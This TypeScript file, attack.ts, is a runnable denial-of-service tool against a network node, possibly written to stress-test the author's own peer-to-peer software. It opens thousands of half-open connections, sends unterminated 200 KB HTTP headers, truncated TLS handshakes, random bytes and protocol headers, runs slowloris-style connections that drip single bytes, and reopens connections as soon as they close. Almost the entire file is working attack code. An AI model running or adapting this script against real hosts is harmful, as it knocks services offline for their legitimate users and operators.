/**
 * A stranger who wants a node to be of no use to others: run as `node attack.ts HOST SECONDS PORT...`. Prints `ready` when all
 * is under way, and what it managed at its end.
 */
import { randomBytes } from 'node:crypto'
import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'

/** Connections that are opened and say nothing, or too little, kept up all the time. */
const HALF_OPEN = 10_000
const SLOW = 200
const AT_ONCE = 500

const [host = '', seconds = '0', ...ports] = process.argv.slice(2)
const end = Date.now() + Number(seconds) * 1000
const portOf = (number: number): number => Number(ports[number % ports.length])
const counts = { opened: 0, closedByIt: 0, answers: 0 }

function open(number: number, say: (socket: Socket) => void): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>()
  const socket = connect(portOf(number), host, () => {
    counts.opened += 1
    say(socket)
    resolve()
  })
  socket.on('data', () => (counts.answers += 1))
  socket.on('error', () => {})
  socket.once('close', () => {
    counts.closedByIt += 1
    resolve()
  })
  return promise
}

const ways: readonly ((socket: Socket) => void)[] = [
  () => {},
  // Headers without an end
  (socket) => socket.write(`GET /v2/ HTTP/1.1\r\nX: ${'x'.repeat(200_000)}`),
  (socket) => socket.write(randomBytes(4096)),
  // The beginning of a handshake, and then nonsense
  (socket) =>
    socket.write(Buffer.concat([Buffer.from('16030103ff010003fb0303', 'hex'), randomBytes(1000)])),
  (socket) => socket.write('\x13/multistream/1.0.0\n\x07/noise\n'),
]

/** A byte every now and then, as if there were more to come. */
async function slowly(number: number): Promise<void> {
  while (Date.now() < end) {
    let gone = false
    await open(number, (socket) => {
      socket.once('close', () => (gone = true))
      const timer = setInterval(() => socket.write('X'), 500)
      socket.once('close', () => clearInterval(timer))
    })
    while (!gone && Date.now() < end) await delay(200)
    await delay(50)
  }
}

let next = 0
async function worker(): Promise<void> {
  while (next < HALF_OPEN) {
    const number = next++
    await open(number, ways[number % ways.length] ?? (() => {}))
  }
}

const slow = Array.from({ length: SLOW }, (_, number) => slowly(number))
await Promise.all(Array.from({ length: AT_ONCE }, worker))
process.stdout.write('ready\n')
// As fast as they are closed new ones come.
await Promise.all([
  ...slow,
  ...Array.from({ length: AT_ONCE }, async (_, number) => {
    for (let turn = number; Date.now() < end; turn += 1) {
      await open(turn, ways[turn % ways.length] ?? (() => {}))
      await delay(20)
    }
  }),
])
process.stdout.write(`${JSON.stringify(counts)}\n`)
process.exit()
